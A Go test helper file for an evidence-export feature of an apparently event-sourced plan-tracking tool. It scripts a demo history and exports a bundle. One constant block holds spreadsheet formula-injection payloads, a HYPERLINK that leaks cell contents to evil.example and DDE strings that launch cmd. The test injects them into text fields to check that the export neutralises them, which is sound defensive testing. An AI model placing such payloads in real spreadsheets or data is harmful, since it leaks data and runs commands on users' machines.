package evidence

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/sendtrail/sendtrail/demo"
	"github.com/sendtrail/sendtrail/domain"
	"github.com/sendtrail/sendtrail/eventpb"
	"github.com/sendtrail/sendtrail/importer"
	"github.com/sendtrail/sendtrail/projections"
)

// history makes events as the command handler would, without a stream:
// Decide on the folded state, envelopes with increasing sequences.
type history struct {
	t      testing.TB
	states map[string]domain.State
	seq    uint64
	events []projections.Event
	clock  time.Time
}

func newHistory(t testing.TB) *history {
	return &history{t: t, states: map[string]domain.State{}, clock: time.Date(2024, 1, 15, 9, 0, 0, 0, time.UTC)}
}

var (
	officer   = domain.Actor{ID: "u-officer", DisplayName: "Pat Officer", Role: domain.RoleEditor}
	systemAct = domain.Actor{ID: "system", DisplayName: "sendtrail", Role: domain.RoleAdmin}
)

// at moves the recording clock.
func (h *history) at(t time.Time) { h.clock = t }

func (h *history) exec(plan string, typ domain.AggregateType, id string, cmd domain.Command, actor domain.Actor) {
	h.t.Helper()
	key := string(typ) + "/" + id
	st, ok := h.states[key]
	if !ok {
		st = domain.NewState(typ)
	}
	evs, err := domain.Decide(st, cmd)
	if err != nil {
		h.t.Fatalf("%T on %s: %v", cmd, key, err)
	}
	for _, e := range evs {
		h.seq++
		h.clock = h.clock.Add(time.Second)
		env := domain.Envelope{
			EventID: "ev-" + time.Duration(h.seq).String(), Plan: plan, AggregateType: typ, AggregateID: id,
			OccurredAt: h.clock.Add(-time.Hour), RecordedAt: h.clock, Actor: actor, CorrelationID: "cmd-" + time.Duration(h.seq).String(),
			SchemaVersion: domain.SchemaVersion, Sequence: h.seq, Event: e,
		}
		raw, err := eventpb.Marshal(env)
		if err != nil {
			h.t.Fatal(err)
		}
		st = domain.Evolve(st, env)
		h.events = append(h.events, projections.Event{Envelope: env, Raw: raw, Subject: eventpb.Subject(env)})
	}
	h.states[key] = st
}

func (h *history) importDemo() {
	h.t.Helper()
	files, err := demo.Files()
	if err != nil {
		h.t.Fatal(err)
	}
	p, err := importer.ReadFiles(files, importer.Options{Slug: demo.Slug, Title: demo.Title, AcceptFlagged: true})
	if err != nil {
		h.t.Fatal(err)
	}
	s := demo.Slug
	h.exec(s, domain.AggPlan, s, p.Create, systemAct)
	for _, a := range p.Priorities {
		h.exec(s, domain.AggPriority, domain.PriorityID(s, a.Number), a, systemAct)
	}
	for _, a := range p.Actions {
		h.exec(s, domain.AggAction, domain.ActionID(s, a.Ref), a, systemAct)
	}
	for _, k := range p.Kpis {
		id := domain.KpiID(s, k.Define.Name)
		h.exec(s, domain.AggKpi, id, k.Define, systemAct)
		for _, v := range k.Values {
			h.exec(s, domain.AggKpi, id, v, systemAct)
		}
	}
}

func (h *history) action(ref string, cmd domain.Command) {
	h.exec(demo.Slug, domain.AggAction, domain.ActionID(demo.Slug, ref), cmd, officer)
}

// Spreadsheet-hostile texts: each must come back as text.
const (
	evilHyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`
	evilSum       = "=1+1"
	evilCmd       = "+cmd|' /C calc'!A0"
	evilAt        = "@SUM(1+1)*cmd|' /C calc'!A0"
	evilMinus     = "-2+3+cmd|' /C calc'!A0"
)

// scripted is the demo plan with a history over three days (2024-03-01,
// 2024-04-02, 2024-05-20): RAG changes, deadline slips, lead changes, a
// withdrawal, KPI values and a correction, a closed period, and texts that
// try to be formulas.
func scripted(h *history) {
	h.importDemo()
	s := demo.Slug
	h.at(time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC))
	h.action("3.4", domain.ChangeRag{Rag: "A", Commentary: "Recruitment delayed"})
	h.action("3.4", domain.MoveDeadline{Deadline: "2024-12-31", Category: "capacity", Reason: "Restructure delayed"})
	h.action("3.4", domain.ReassignLeads{Leads: []domain.Lead{{Name: "Sam Best", Organisation: "NHS Dorset"}}, Reason: "Moved to the ICB"})
	h.action("1.7", domain.MoveDeadline{Deadline: "2024-04-30", Category: "other", Reason: "31/04/24 is not a date"})
	h.action("2.1", domain.ChangeRag{Rag: "R", Commentary: evilHyperlink})
	h.exec(s, domain.AggPlan, s, domain.ClosePeriod{Label: "Q4 2023/24", Date: "2024-03-28", RagCounts: map[string]int{"R": 2, "A": 30, "P": 96, "G": 7, "NS": 3}}, officer)
	h.at(time.Date(2024, 4, 2, 14, 30, 0, 0, time.UTC))
	h.action("2.1", domain.MoveDeadline{Deadline: "2025-01-31", Category: "funding", Reason: evilSum})
	h.action("5.3", domain.WithdrawAction{Reason: "Merged into 5.4"})
	h.action("4.2", domain.ReassignLeads{Leads: []domain.Lead{{Name: evilAt, Role: evilMinus}}, Reason: evilCmd})
	h.action("3.4", domain.RecordProgress{Text: evilMinus})
	h.action("3.4", domain.ChangeRag{Rag: "P", Commentary: "Posts filled"})
	h.exec(s, domain.AggKpi, domain.KpiID(s, "% of case audits judged as good/outstanding"), domain.CorrectKpiValue{Period: "Jan-24", Value: "41.6%", Reason: "Typo in the published table"}, officer)
	h.at(time.Date(2024, 5, 20, 8, 0, 0, 0, time.UTC))
	h.action("3.4", domain.MoveDeadline{Deadline: "2025-03-31", Category: "rebaselined", Reason: "Agreed with the DfE adviser"})
	h.action("1.1", domain.ChangeRag{Rag: "G", Commentary: "Embedded"})
	h.exec(s, domain.AggKpi, domain.KpiID(s, "% of case audits judged as good/outstanding"), domain.RecordKpiValue{Period: "Apr-24", Value: "48%"}, officer)
}

// readModel applies the history to a fresh read model with the evidence
// extension, in batches of batch events.
func readModel(t testing.TB, dir string, key *Key, events []projections.Event, batch int) *projections.DB {
	t.Helper()
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	db, err := projections.Open(filepath.Join(dir, "sendtrail.db"), projections.WithExtension(NewExtension(key)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	for i := 0; i < len(events); i += batch {
		if err := db.Apply(context.Background(), events[i:min(i+batch, len(events))]); err != nil {
			t.Fatal(err)
		}
	}
	return db
}

var testKey = func() *Key {
	k, err := GenerateKey()
	if err != nil {
		panic(err)
	}
	return k
}()

// exportTo writes a bundle to dir/name and returns its path.
func exportTo(t testing.TB, db *projections.DB, key *Key, req Request, path string) *Prepared {
	t.Helper()
	x := &Exporter{DB: db.Reader(), Key: key, Now: func() time.Time { return time.Date(2024, 6, 3, 12, 0, 0, 0, time.UTC) }}
	if req.By.ID == "" {
		req.By = domain.Actor{ID: "u-inspector", DisplayName: "Ida Inspector", Role: domain.RoleInspector}
	}
	p, err := x.Prepare(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := p.WriteTo(context.Background(), &b); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}
